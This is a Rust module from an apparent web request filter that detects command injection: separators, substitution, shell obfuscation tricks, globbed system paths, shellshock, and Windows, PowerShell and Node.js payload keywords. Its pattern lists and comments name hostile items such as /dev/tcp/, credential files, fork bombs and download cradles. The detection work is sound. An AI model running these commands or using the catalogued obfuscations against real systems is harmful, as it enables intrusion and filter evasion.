//! Command injection / RCE: shell separators followed by commands, command substitution,
//! shell tricks (`${IFS}`, globbed paths, shellshock), Windows cmd and PowerShell, and
//! server-side script runtimes (Node.js, Perl) reached through input.

use crate::text::FastFind;
use crate::text::{find_any, find_any_word};
use crate::{Ctx, Hit};
use gavel_policy_sdk::views::InputKind;

mod syntax;
mod words;
use words::{COMMAND_SET, WORDY_SET};

fn is_sep(c: u8) -> bool {
    matches!(
        c,
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{' | b'$' | b'\0'
    )
}

/// The command word at `i` (letters, digits, `-`, `_`, `.`), after an optional path prefix
/// (`/bin/`, `/usr/bin/`) and quote-splitting tricks (`w'h'o'am'i`, `wh\oami`).
fn command_at(lower: &str, i: usize) -> Option<(String, usize)> {
    let b = lower.as_bytes();
    let mut j = i;
    // Path prefix.
    if b.get(j) == Some(&b'/') {
        let mut k = j;
        while k < b.len()
            && (b[k].is_ascii_alphanumeric()
                || b[k] == b'/'
                || b[k] == b'_'
                || b[k] == b'-'
                || b[k] == b'.')
        {
            k += 1;
        }
        let path = &lower[j..k];
        if let Some(slash) = path.rfind('/')
            && (path.starts_with("/bin/")
                || path.starts_with("/usr/")
                || path.starts_with("/sbin/"))
        {
            j += slash + 1;
        }
    }
    // A quoted command word: `'curl' http://x`, `"cscli" alerts`.
    let mut quotes = 0;
    if matches!(b.get(j), Some(b'\'' | b'"'))
        && b.get(j + 1).is_some_and(|c| c.is_ascii_alphabetic())
    {
        j += 1;
        quotes += 1;
    }
    let mut w = String::new();
    let mut k = j;
    let mut split = false;
    while k < b.len() && w.len() < 32 {
        let c = b[k];
        if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.') {
            w.push(c as char);
        } else if matches!(c, b'\'' | b'"' | b'\\')
            && !w.is_empty()
            && b.get(k + 1).is_some_and(|n| n.is_ascii_alphanumeric())
        {
            // Quote / backslash splitting inside a word.
            if c != b'\\' {
                quotes += 1;
                split = true;
            }
        } else {
            break;
        }
        k += 1;
    }
    // Splitting quotes come in pairs (`w'h'o'am'i`, `"c"at`); an odd one opens a string that
    // goes on past the word (`r'm\.[a-z]'`, a Python raw string), not a disguised command.
    if split && (quotes + usize::from(matches!(b.get(k), Some(b'\'' | b'"')))) % 2 == 1 {
        return None;
    }
    // `base64,iVBOR` (a data: URL) or `ls=1` is one word / an assignment, not a command.
    if matches!(b.get(k), Some(b',')) {
        return None;
    }
    let w = w.trim_end_matches('.').to_string();
    (!w.is_empty()).then_some((w, k))
}

/// Whether what follows a command word looks like shell arguments.
fn shell_args(rest: &str) -> bool {
    let r = rest.trim_start_matches([' ', '\t', '+']);
    // Nothing, or only the line break that ends the command.
    if r.trim().is_empty() {
        return true;
    }
    let first = r.as_bytes()[0];
    if matches!(
        first,
        b'-' | b'/'
            | b'~'
            | b'$'
            | b'<'
            | b'>'
            | b'|'
            | b';'
            | b'&'
            | b'`'
            | b'.'
            | b'*'
            | b'{'
            | b'\''
            | b'"'
    ) {
        return true;
    }
    let arg: String = r.chars().take_while(|c| !c.is_whitespace()).collect();
    arg.contains('/')
        || arg.contains('.')
        || arg.contains('=')
        || COMMAND_SET.contains(arg.as_str()) && !WORDY_SET.contains(arg.as_str())
        // `ansible all -m ping`: an option among the next few words (before any `docs:`).
        || r.split([' ', '\t', '+'])
            .take(4)
            .take_while(|a| !a.ends_with([':', ',']))
            .any(option)
}

/// English function words: their presence makes the words after a tool name a sentence
/// (`python3 is installed`), not its arguments.
const FUNCTION_WORDS: &[&str] = &[
    "is", "are", "was", "were", "be", "of", "the", "a", "an", "to", "and", "or", "in", "on", "for",
    "with", "it", "this", "that", "not", "my", "your", "i", "you", "we", "has", "have",
];

/// Whether what follows a command word reads as its arguments rather than a sentence: at
/// most six words, each an option, a path or a lower-case token, none an English function word
/// or carrying sentence punctuation (`bash completion: add …`, `gcc doesn't`).
fn cli_tail(rest: &str) -> bool {
    let words: Vec<&str> = rest
        .split([' ', '\t', '+', '\n', '\r'])
        .map(|w| w.trim_matches(['\'', '"']))
        .filter(|w| !w.is_empty())
        .collect();
    words.len() <= 6
        && words.iter().all(|w| {
            option(w)
                || w.starts_with(['/', '~', '.'])
                || (!FUNCTION_WORDS.contains(w)
                    && !w.ends_with('.')
                    && w.bytes().all(|c| {
                        c.is_ascii_alphanumeric()
                            || matches!(c, b'-' | b'_' | b'.' | b'/' | b'=' | b'@')
                    }))
        })
}

/// `-m`, `-lvp`, `--version`: a command-line option word.
fn option(a: &str) -> bool {
    let o = a.strip_prefix("--").or_else(|| a.strip_prefix('-'));
    o.is_some_and(|o| {
        !o.is_empty()
            && o.len() <= 24
            && o.starts_with(|c: char| c.is_ascii_alphabetic())
            && o.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
    })
}

/// The first non-wordy known command among the next few words after a wrapper command.
fn wrapped_command(lower: &str, from: usize) -> Option<(&'static str, usize)> {
    let rest = &lower[from..];
    let mut off = from;
    for part in rest
        .split_inclusive([' ', '\t', '+', ',', '\n', '\r'])
        .take(5)
    {
        let word = part
            .trim_end_matches([' ', '\t', '+', ',', '\n', '\r'])
            .trim_matches(['\'', '"']);
        if COMMAND_SET.contains(word) && !WORDY_SET.contains(word) {
            return Some(("shell command run through a wrapper", off));
        }
        if word.contains([';', '|', '&']) {
            break;
        }
        off += part.len();
    }
    None
}

/// Undo shell quoting tricks that the shell itself removes: `c''at`, `c\\at`, `c$*at`,
/// `c$@at`, `/bi[n]/sh` (one-character classes).
fn deobfuscate(lower: &str) -> String {
    let b = lower.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let next = b.get(i + 1).copied();
        if (c == b'\'' || c == b'"') && next == Some(c) {
            i += 2;
            continue;
        }
        if c == b'$'
            && next.is_some_and(|n| {
                matches!(n, b'*' | b'@' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
                    || n.is_ascii_digit()
            })
        {
            i += 2;
            continue;
        }
        // A short quoted fragment glued to a word (`kill '-'9`, `"c"at`): the shell drops
        // the quotes.
        if (c == b'\'' || c == b'"')
            && let Some(len) = b[i + 1..].iter().take(5).position(|&x| x == c)
            && len > 0
            && b[i + 1..i + 1 + len]
                .iter()
                .all(|x| x.is_ascii_alphanumeric() || *x == b'-')
            && b.get(i + len + 2)
                .is_some_and(|x| x.is_ascii_alphanumeric())
        {
            out.extend_from_slice(&b[i + 1..i + 1 + len]);
            i += len + 2;
            continue;
        }
        // Empty substitutions: ``` `` ```, `$()`, and short unset `${xx}`.
        if c == b'`' && next == Some(b'`') {
            i += 2;
            continue;
        }
        if c == b'$' && next == Some(b'(') && b.get(i + 2) == Some(&b')') {
            i += 3;
            continue;
        }
        if c == b'$'
            && next == Some(b'{')
            && let Some(close) = lower[i + 2..].find('}')
            && close <= 8
            && lower[i + 2..i + 2 + close]
                .bytes()
                .all(|x| x.is_ascii_alphabetic())
        {
            i += 3 + close;
            continue;
        }
        if c == b'\\' && next.is_some_and(|n| n.is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        if c == b'['
            && b.get(i + 2) == Some(&b']')
            && next.is_some_and(|n| n.is_ascii_alphanumeric())
        {
            out.push(b[i + 1]);
            i += 3;
            continue;
        }
        // `[?]`, `[e//]`, `[p///]`: a bracket expression holding a wildcard, or one character
        // padded with slashes (which pathname expansion never matches), reads as that
        // character.
        if c == b'['
            && let Some(len) = b[i + 1..].iter().take(16).position(|&x| x == b']')
            && len > 0
        {
            let set = &b[i + 1..i + 1 + len];
            let alnum: Vec<u8> = set
                .iter()
                .copied()
                .filter(u8::is_ascii_alphanumeric)
                .collect();
            if set.iter().all(|&x| matches!(x, b'?' | b'*')) {
                out.push(b'?');
                i += len + 2;
                continue;
            }
            if set.contains(&b'/')
                && alnum.len() == 1
                && set.iter().all(|&x| x == b'/' || x == alnum[0])
            {
                out.push(alnum[0]);
                i += len + 2;
                continue;
            }
        }
        out.push(c);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Paths a wildcard pattern is dangerous to match.
const GLOB_TARGETS: &[&str] = &[
    "/etc",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/etc/sudoers",
    "/bin/sh",
    "/bin/bash",
    "/bin/nc",
    "/bin/cat",
    "/bin/busybox",
    "/usr/bin/id",
    "/usr/bin/cat",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/usr/bin/perl",
    "/usr/bin/python",
    "/proc/self/environ",
];

/// Shell pathname matching: `?`, `*` and `[set]` (ranges, `!`/`^` negation); repeated `/`
/// read as one.
fn glob_match(p: &[u8], t: &[u8]) -> bool {
    match p.first() {
        None => t.is_empty(),
        Some(b'/') if p.get(1) == Some(&b'/') => glob_match(&p[1..], t),
        Some(b'*') => {
            (0..=t.len()).any(|k| !t[..k].contains(&b'/') && glob_match(&p[1..], &t[k..]))
        }
        Some(b'?') => t.first().is_some_and(|&c| c != b'/') && glob_match(&p[1..], &t[1..]),
        Some(b'[') => {
            let Some(close) = p.iter().skip(2).position(|&x| x == b']').map(|x| x + 2) else {
                return t.first() == Some(&b'[') && glob_match(&p[1..], &t[1..]);
            };
            let Some(&c) = t.first() else { return false };
            let mut set = &p[1..close];
            let neg = set.first().is_some_and(|x| matches!(x, b'!' | b'^'));
            if neg {
                set = &set[1..];
            }
            let mut hit = false;
            let mut k = 0;
            while k < set.len() {
                if set.get(k + 1) == Some(&b'-') && k + 2 < set.len() {
                    hit |= (set[k]..=set[k + 2]).contains(&c);
                    k += 3;
                } else {
                    hit |= set[k] == c;
                    k += 1;
                }
            }
            hit != neg && c != b'/' && glob_match(&p[close + 1..], &t[1..])
        }
        Some(&x) => t.first() == Some(&x) && glob_match(&p[1..], &t[1..]),
    }
}

/// Whether a pattern has a letter outside its bracket expressions (`/[^\n]*` has none).
fn literal_letter(tok: &[u8]) -> bool {
    let mut depth = 0;
    tok.iter().any(|&c| {
        match c {
            b'[' => depth += 1,
            b']' if depth > 0 => depth -= 1,
            _ => {}
        }
        depth == 0 && c.is_ascii_alphabetic()
    })
}

/// A wildcard pattern (`/[e]?c/pa*wd`, `/b?n/b[a]sh`) with a literal letter or two that
/// matches a sensitive path: the offset of the pattern.
fn globbed_path(lower: &str) -> Option<usize> {
    let b = lower.as_bytes();
    let mut from = 0;
    while let Some(q) = lower[from..].ffind_byte(b'/') {
        let at = from + q;
        if at > 0
            && !matches!(
                b[at - 1],
                b' ' | b'\t'
                    | b'\''
                    | b'"'
                    | b'='
                    | b';'
                    | b'|'
                    | b'&'
                    | b'`'
                    | b'('
                    | b'>'
                    | b'<'
                    | b'+'
                    | b'\n'
                    | b'{'
                    | b','
            )
        {
            from = at + 1;
            continue;
        }
        let end = b[at..]
            .iter()
            .position(|&c| {
                matches!(
                    c,
                    b' ' | b'\t'
                        | b'\n'
                        | b'\''
                        | b'"'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'`'
                        | b')'
                        | b'<'
                        | b'>'
                        | b','
                        | b'}'
                )
            })
            .map_or(b.len(), |e| at + e);
        from = end.max(at + 1);
        let tok = &b[at..end];
        if tok.len() > 64
            || !tok.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
            || !literal_letter(tok)
        {
            continue;
        }
        if GLOB_TARGETS.iter().any(|t| glob_match(tok, t.as_bytes())) {
            return Some(at);
        }
    }
    None
}

/// `a=/etc&&b=/passwd&&c=cat&&$c $a$b`, `a=nc;$a -nlvp 555`, `;$u wget x`: shell variables
/// set in the value are replaced by what they were set to, and unset ones by nothing, the way
/// the shell expands them. `None` when the value sets or uses no variable.
fn expand_vars(lower: &str) -> Option<String> {
    let b = lower.as_bytes();
    if !b
        .windows(2)
        .any(|w| w[0] == b'$' && (w[1].is_ascii_alphabetic() || w[1] == b'_' || w[1] == b'{'))
    {
        return None;
    }
    // Assignments: `name=value` at the start of a command (value up to a separator).
    let mut vars: Vec<(&str, String)> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let start = i == 0 || matches!(b[i - 1], b';' | b'&' | b'|' | b'\n' | b' ');
        if start && (b[i].is_ascii_alphabetic() || b[i] == b'_') {
            let e = i + b[i..]
                .iter()
                .take_while(|c| crate::text::is_ident(**c))
                .count();
            if b.get(e) == Some(&b'=') {
                let vs = e + 1;
                let mut ve = vs;
                while ve < b.len() && !matches!(b[ve], b';' | b'&' | b'|' | b'\n') {
                    if b[ve] == b' ' && !(ve > vs && b[ve - 1] == b'\\') {
                        break;
                    }
                    ve += 1;
                }
                let val: String = lower[vs..ve]
                    .chars()
                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
                    .collect();
                vars.retain(|(n, _)| *n != &lower[i..e]);
                vars.push((&lower[i..e], val));
                if vars.len() > 32 {
                    return None;
                }
                i = ve;
                continue;
            }
        }
        i += 1;
    }
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    let mut used = false;
    while i < b.len() {
        if b[i] == b'$' {
            let braced = b.get(i + 1) == Some(&b'{');
            let ns = i + 1 + usize::from(braced);
            // The longest set name that starts here (`$a1` over `$a`), else the identifier.
            let ident = b[ns..]
                .iter()
                .take_while(|c| crate::text::is_ident(**c))
                .count();
            if ident > 0 && (b[ns].is_ascii_alphabetic() || b[ns] == b'_') {
                let (len, val) = vars
                    .iter()
                    .filter(|(n, _)| n.len() <= ident && lower[ns..].starts_with(n))
                    .max_by_key(|(n, _)| n.len())
                    .map_or((ident, ""), |(n, v)| (n.len(), v.as_str()));
                let close = ns + len;
                if !braced || b.get(close) == Some(&b'}') {
                    out.push_str(val);
                    used = true;
                    i = close + usize::from(braced);
                    continue;
                }
            }
        }
        let ch = lower[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    used.then_some(out)
}

/// Interpreters that run code given on their command line.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "busybox", "perl", "python",
    "python2", "python3", "ruby", "node", "nodejs", "php", "lua", "pwsh", "awk", "gawk",
];

/// `sh -c "id"`, `/usr/bin/perl -e '…'`, `$SHELL -c …`, `python3.10 -c …`, `php -r …`: an
/// interpreter at a command position given code through its inline-code flag.
/// `word` is [`command_at`]`(lower, j)`, computed once by the caller.
fn inline_code(lower: &str, j: usize, word: Option<&(String, usize)>) -> Option<Hit> {
    let rest = &lower[j..];
    let after = if let Some(r) = rest
        .strip_prefix("$shell")
        .or_else(|| rest.strip_prefix("${shell}"))
    {
        r
    } else {
        let (w, end) = word?;
        let end = *end;
        let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        if !INTERPRETERS.contains(&w.as_str()) && !INTERPRETERS.contains(&base) {
            return None;
        }
        &lower[end..]
    };
    let a = after.trim_start_matches(['\'', '"']);
    let a = a
        .strip_prefix([' ', '\t', '+'])?
        .trim_start_matches([' ', '\t', '+']);
    let flag_len = ["--eval", "-ce", "-c", "-e", "-r"]
        .iter()
        .find(|f| a.starts_with(**f))?
        .len();
    let code = a[flag_len..].strip_prefix([' ', '\t', '+'])?;
    let code = code.trim_start_matches([' ', '\t', '+']);
    // Code, not an option or nothing: a quote, a word, a `$`, a `(`.
    code.starts_with(|c: char| {
        c.is_ascii_alphabetic() || matches!(c, '\'' | '"' | '$' | '(' | '`' | '/')
    })
    .then(|| Hit::deny("rce.command", j, "interpreter given inline code"))
}

/// Scan one value (and its shell-deobfuscated form).
pub fn scan(orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
    // A parameter named `uname` or `id` is a name: one command word there runs nothing.
    if matches!(
        ctx.kind,
        InputKind::QueryName | InputKind::BodyFieldName | InputKind::CookieName
    ) && COMMAND_SET.contains(lower.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
    {
        return None;
    }
    if let Some(h) = scan_one(orig, lower, ctx, None) {
        return Some(h);
    }
    // Every rewrite in `deobfuscate` starts at one of these bytes.
    if !crate::grams::has_any_byte(lower, b"'\"$`\\[") {
        return None;
    }
    let d = crate::grams::Indexed::derived(lower, deobfuscate(lower));
    if &*d != lower
        && let Some(mut h) = scan_one(orig, &d, ctx, Some(lower))
    {
        h.at = h.at.min(lower.len());
        h.strong = true;
        return Some(h);
    }
    // Expand before removing quotes and backslashes: `$u\c` names `u`, not `uc`.
    if let Some(x) = expand_vars(lower) {
        let x = crate::grams::Indexed::derived(lower, deobfuscate(&x));
        if let Some(mut h) = scan_one(orig, &x, ctx, Some(lower)) {
            h.at = h.at.min(lower.len());
            return Some(h);
        }
    }
    None
}

/// cmd.exe batch syntax: FOR /F ... DO, IF ... == ... command, %VAR% expansions.
fn batch(lower: &str) -> Option<Hit> {
    // Read on the folded text (comments out, whitespace runs as one space), which is only
    // worth building when it can start with `for` / `if` or hold `%_`: folding creates
    // neither unless it removes a comment.
    let start = lower.trim_start_matches(|c: char| {
        matches!(c, ';' | '&' | '|' | '@') || c.is_ascii_whitespace()
    });
    if !(start.starts_with("for")
        || start.starts_with("if")
        || lower.fcontains("%_")
        || lower.fcontains("/*"))
    {
        return None;
    }
    let folded = crate::grams::Indexed::derived(lower, crate::text::fold(lower));
    let f = folded.trim_start_matches([';', '&', '|', ' ', '@']);
    if (f.starts_with("for /") || f.starts_with("for %"))
        && (f.fcontains(" do ") || f.fcontains(")do "))
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe FOR loop"));
    }
    if f.starts_with("if not defined ")
        || f.starts_with("if not exist ")
        || f.starts_with("if /i ")
        || f.starts_with("if not {")
        || f.starts_with("if errorlevel ")
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
    }
    if f.starts_with("if ")
        && (f.fcontains("==")
            || [
                " equ ",
                " neq ",
                " lss ",
                " leq ",
                " gtr ",
                " geq ",
                " exist ",
                "errorlevel",
                " defined ",
            ]
            .iter()
            .any(|k| f.fcontains(k)))
        && (f.fcontains(" echo ")
            || f.fcontains(" goto ")
            || f.fcontains(" cmd")
            || f.fcontains(" set ")
            || f.fcontains("echo"))
    {
        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
    }
    if let Some(p) = f.ffind("%_")
        && f[p + 1..].contains('%')
        && (f.fcontains("set ") || f.fcontains(":~"))
    {
        return Some(Hit::deny("rce.windows", p, "cmd.exe variable expansion"));
    }
    None
}

/// Whether command word `w`, found in a rewrite of `original`, was disguised there: absent as
/// a word (`pi$()ng`, `c''at`), glued to quoting or substitution (``ping`` ``), after an
/// unset variable (`$a cat`) or given a quoted option (`kill '-'9`).
fn tricked(original: &str, w: &str) -> bool {
    let Some(p) = crate::text::find_word(original, w) else {
        return true;
    };
    let b = original.as_bytes();
    let obf = |c: u8| matches!(c, b'`' | b'$' | b'\'' | b'"');
    let after = &original[p + w.len()..];
    // (A `$` before the word makes it a variable's name, not a disguise.)
    if after.bytes().next().is_some_and(obf) || (p > 0 && obf(b[p - 1]) && b[p - 1] != b'$') {
        return true;
    }
    let a = after.trim_start();
    if a.starts_with("'-") || a.starts_with("\"-") {
        return true;
    }
    // `$a cat`: a variable expanded to nothing right before the word.
    let before = original[..p].trim_end();
    let ident = before
        .bytes()
        .rev()
        .take_while(|c| crate::text::is_ident(*c))
        .count();
    ident > 0 && before[..before.len() - ident].ends_with('$')
}

/// `original`: `lower` is a rewrite of it that undid shell quoting or expansion tricks, so a
/// command word that is also an English word counts as a command when given arguments, if the
/// trick touched that word ([`tricked`]).
fn scan_one(orig: &str, lower: &str, ctx: Ctx, original: Option<&str>) -> Option<Hit> {
    let b = lower.as_bytes();
    if b.len() < 2 {
        return None;
    }
    // Shellshock: the function-definition prefix bash imported from the environment, with a
    // command after it or as the whole value.
    if let Some(p) = lower.ffind("() {")
        && (lower[p..].contains(';') || lower.trim() == "() {")
    {
        return Some(Hit::deny(
            "rce.shellshock",
            p,
            "shellshock function definition",
        ));
    }
    if let Some((p, _)) = find_any(
        lower,
        &[
            "${ifs",
            "$ifs$",
            "$ifs ",
            "{ifs}",
            ":(){",
            ":|:&",
            "<<<",
            "$(",
            "${@",
            "${path:",
            "${home:",
            "${shell",
            "${ps1",
            "${pwd",
            "$[",
            "<(",
            ">(",
            "/dev/tcp/",
            "/dev/udp/",
        ],
    ) {
        let after = &lower[p..];
        if !(after.starts_with("$(")
            && after[2..].starts_with(|c: char| c.is_ascii_digit() || c == ')' || c == '"'))
        {
            return Some(Hit::deny("rce.shell-syntax", p, "shell expansion syntax"));
        }
    }
    // Parameter expansion with a pattern operator: `${x#{}}`, `${PATH%%:*}`, `${a/b/c}`.
    let mut from = 0;
    while let Some(q) = lower[from..].ffind("${") {
        let at = from + q + 2;
        let id = lower[at..]
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
            .count();
        if id > 0 && matches!(b.get(at + id), Some(b'#' | b'%' | b'/' | b'^' | b',')) {
            return Some(Hit::deny(
                "rce.shell-syntax",
                at - 2,
                "shell parameter expansion",
            ));
        }
        from = at;
    }
    // Backtick substitution with a command inside.
    if let Some(p) = lower.ffind_byte(b'`')
        && let Some((w, _)) = command_at(lower, p + 1)
        && COMMAND_SET.contains(w.as_str())
        && lower[p + 1..].contains('`')
    {
        return Some(Hit::deny(
            "rce.substitution",
            p,
            "backtick command substitution",
        ));
    }
    // Globbed sensitive paths: /e?c/p*sswd, /etc/[p]asswd.
    for dir in [
        "/etc/", "/bin/", "/usr/", "/proc/", "/e?c/", "/e*c/", "/???/", "/b??/", "/?in/",
    ] {
        if let Some(p) = lower.ffind(dir) {
            let seg: String = lower[p..]
                .chars()
                .take(24)
                .take_while(|c| !c.is_whitespace())
                .collect();
            if seg.contains(['?', '*', '[']) {
                return Some(Hit::deny("rce.glob", p, "wildcard-obfuscated system path"));
            }
        }
    }
    if crate::grams::has_any_byte(lower, b"?*[")
        && let Some(p) = globbed_path(lower)
    {
        return Some(Hit::deny(
            "rce.glob",
            p,
            "wildcard pattern matching a system path",
        ));
    }
    // Command position: start of value or after a separator.
    let mut i = 0;
    let mut positions = 0;
    while i < b.len() && positions < 256 {
        let at_start = i == 0;
        let after_sep = i > 0 && is_sep(b[i - 1]);
        if at_start || after_sep {
            let mut j = i;
            while j < b.len() && matches!(b[j], b' ' | b'\t' | b'+') {
                j += 1;
            }
            positions += 1;
            let word = command_at(lower, j);
            if let Some(h) = inline_code(lower, j, word.as_ref()) {
                return Some(h);
            }
            if let Some((mut w, mut end)) = word {
                // Unix command names are lower case: `Make --x`, `GCC Farm`, `LOCATE02` are
                // prose or names (only known on the value as received).
                let cased = original.is_none()
                    && orig.len() == lower.len()
                    && orig
                        .get(j..end)
                        .is_some_and(|o| o.bytes().any(|c| c.is_ascii_uppercase()));
                let mut versioned = false;
                if !COMMAND_SET.contains(w.as_str()) {
                    // `python3.10`, `gcc7.4`: a versioned binary name (not a word any more).
                    let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                    if base.len() >= 2 && base.len() < w.len() && COMMAND_SET.contains(base) {
                        // `ps1`, `cc0`, `ed25519`: a short word plus digits is a name, not
                        // a versioned binary.
                        versioned = base.len() >= 3 && !cased;
                        w = base.to_string();
                    }
                }
                // `time sh -c id`, `nohup curl x`, `flock -u / whoami`: a wrapper runs the
                // command that follows it.
                if words::PREFIXES.contains(&w.as_str())
                    && let Some((inner, at)) = wrapped_command(lower, end)
                {
                    return Some(Hit::deny("rce.command", at, inner));
                }
                if lower[end..].starts_with('\'') || lower[end..].starts_with('"') {
                    end += 1;
                }
                let known = COMMAND_SET.contains(w.as_str());
                let wordy = WORDY_SET.contains(w.as_str()) && !versioned;
                let sep_char = if i > 0 { b[i - 1] } else { 0 };
                // `curl/7.58.0` is a product token (User-Agent), not a command line; `"cmd":`
                // and `ping:` are keys and labels.
                let product = lower[end..].starts_with(['/', '=', ':']);
                if known && !product {
                    let args = shell_args(&lower[end..]);
                    let with_sep =
                        after_sep && sep_char != b'(' && sep_char != b'{' && sep_char != b'$';
                    let lone = at_start
                        && lower[end..].trim().is_empty()
                        && !lower[end..].contains(['\n', ';'])
                        && !words::ALONE.contains(&w.as_str());
                    // `/bin/bash`, `/usr/bin/perl x`: a path-qualified binary is not a word.
                    let qualified = [
                        "/bin/",
                        "/sbin/",
                        "/usr/bin/",
                        "/usr/sbin/",
                        "/usr/local/bin/",
                    ]
                    .iter()
                    .any(|d| lower[j..].starts_with(d));
                    // `… | sh`: piping into a shell.
                    if sep_char == b'|'
                        && matches!(w.as_str(), "sh" | "bash" | "dash" | "zsh" | "ksh")
                        && (lower[end..].trim().is_empty()
                            || lower[end..]
                                .trim_start()
                                .starts_with(['#', ';', '-', '&', '|']))
                    {
                        return Some(Hit::deny("rce.command", j, "input piped into a shell"));
                    }
                    if qualified
                        && b[end - 1] != b'.'
                        && (after_sep
                            || lower[end..].trim().is_empty()
                            || lower[end..].contains(['|', ';', '>', '<', '`', '$'])
                            || cli_tail(&lower[end..]))
                    {
                        return Some(Hit {
                            rule: "rce.command",
                            strong: !lower[end..].trim().is_empty() || after_sep,
                            at: j,
                            msg: "shell command by path",
                        });
                    }
                    // A tool name no prose uses (`ansible-config`, `pip3`, `sha256sum`)
                    // starting the value, whatever words follow.
                    let tail = &lower[end..];
                    let word_end = b[end - 1] != b'.' && tail.starts_with([' ', '\t', '+', '\n']);
                    let toolish = !wordy
                        && at_start
                        && !cased
                        && word_end
                        && (w.bytes().any(|c| c == b'-' || c.is_ascii_digit())
                            || !words::ENGLISH.contains(&w.as_str()))
                        && cli_tail(tail);
                    // `env --version`, `perf --help`: a long option right after the word.
                    let long_opt = at_start
                        && !cased
                        && tail
                            .trim_start_matches([' ', '\t', '+'])
                            .split([' ', '\t', '+', '\n'])
                            .next()
                            .is_some_and(|a| a.starts_with("--") && option(a))
                        && cli_tail(tail);
                    // `ll /var/www/`, `cat /path/file.gz`: a file command starting the value,
                    // given an absolute path of two or more segments.
                    let path_arg = at_start
                        && words::FILE_COMMANDS.contains(&w.as_str())
                        && lower[end..]
                            .trim_start_matches([' ', '\t', '+'])
                            .split([' ', '\t', '+', '\n'])
                            .next()
                            .is_some_and(|a| {
                                a.starts_with('/')
                                    && a[1..].contains('/')
                                    && !a.starts_with("//")
                                    && a.len() > 4
                            });
                    if (!wordy && (with_sep || args || toolish) && !lone)
                        || (with_sep && args)
                        || (args && original.is_some_and(|o| tricked(o, &w)))
                        || long_opt
                        || path_arg
                    {
                        let strong = with_sep || lower[end..].contains(['/', '|', ';', '>', '<']);
                        return Some(Hit {
                            rule: "rce.command",
                            strong,
                            at: j,
                            msg: "shell command",
                        });
                    }
                }
            }
        }
        // The next command position is after the next separator: skip to it.
        i += b[i..]
            .iter()
            .position(|&c| is_sep(c))
            .map_or(b.len() - i, |k| k + 1);
    }
    // `\!whoami`, `:!id`: an editor / pager / ftp shell escape.
    let mut from = 0;
    while let Some(q) = lower[from..].ffind_byte(b'!') {
        let p = from + q;
        from = p + 1;
        if (p == 0 || matches!(b[p - 1], b' ' | b'\\' | b':' | b'\n' | b';'))
            && let Some((w, _)) = command_at(lower, p + 1)
            && COMMAND_SET.contains(w.as_str())
            && !WORDY_SET.contains(w.as_str())
        {
            return Some(Hit::deny("rce.command", p, "shell escape"));
        }
    }
    // `find … -exec cat {} +`: find running a command on what it found.
    if let Some((p, n)) = find_any(lower, &["-exec ", "-execdir ", "-ok "])
        && let Some((w, _)) = command_at(lower, p + n.len())
        && COMMAND_SET.contains(w.as_str())
        && lower[..p].fcontains("find")
    {
        return Some(Hit::deny("rce.command", p, "find -exec command"));
    }
    // Windows cmd / PowerShell.
    if let Some((p, _)) = find_any(
        lower,
        &[
            "cmd /c",
            "cmd.exe",
            "cmd /k",
            "command.com",
            "powershell",
            "pwsh ",
            "invoke-expression",
            "invoke-webrequest",
            "invoke-restmethod",
            "invoke-command",
            "iex(",
            "iex (",
            "downloadstring(",
            "downloadfile(",
            "new-object net.webclient",
            "net.webclient",
            "start-process",
            "%comspec%",
            "frombase64string",
            "-encodedcommand",
            "set-content",
            "get-content",
            "wscript.shell",
            "shell.application",
            "certutil -",
            "bitsadmin /",
            "rundll32 ",
            "regsvr32 /",
            "mshta ",
            "\\windows\\system32",
            "c:\\windows",
            "%systemroot%",
            "%windir%",
            "net user ",
            "net localgroup",
        ],
    ) {
        return Some(Hit::deny(
            "rce.windows",
            p,
            "Windows shell / PowerShell command",
        ));
    }
    if let Some((p, w)) = find_any_word(
        lower,
        &[
            "iwr", "irm", "gci", "gc", "sal", "nal", "saps", "icm", "iwmi", "gwmi", "icim", "gcim",
        ],
    ) {
        let rest = lower[p + w.len()..].trim_start();
        if rest.starts_with("http")
            || rest.starts_with('-')
            || rest.starts_with('$')
            || (p > 0 && is_sep(b[p - 1]))
        {
            return Some(Hit::deny("rce.windows", p, "PowerShell alias"));
        }
    }
    if let Some(h) = batch(lower) {
        return Some(h);
    }
    // Node.js / Perl / mail-header injection reached through input.
    if let Some((p, _)) = find_any(
        lower,
        &[
            "child_process",
            "process.mainmodule",
            "process[mainmodule",
            "require('child",
            "require(\"child",
            ".constructor.constructor",
            "constructor[prototype]",
            "[constructor][prototype]",
            "__proto__",
            "constructor.prototype",
            "fromcharcode",
            "process.binding",
            "process.env",
            "global.process",
            "this.constructor",
            "require('fs')",
            "require(\"fs\")",
            "execsync(",
            "spawnsync(",
            "@{[",
            "\nrcpt to:",
            "\nmail from:",
            "\rrcpt to:",
            "\rmail from:",
            "\ndata\r",
            "\nhelo ",
            "\nehlo ",
            "console.log(",
            "console.info(",
            "console.error(",
            "console.warn(",
            "setinterval(",
            "settimeout(",
            "=>{",
            "new function(",
            "vm.runin",
            "module.exports",
            "import(",
            "process[\"",
            "process['",
            "_$$nd_func$$_",
            "__class__",
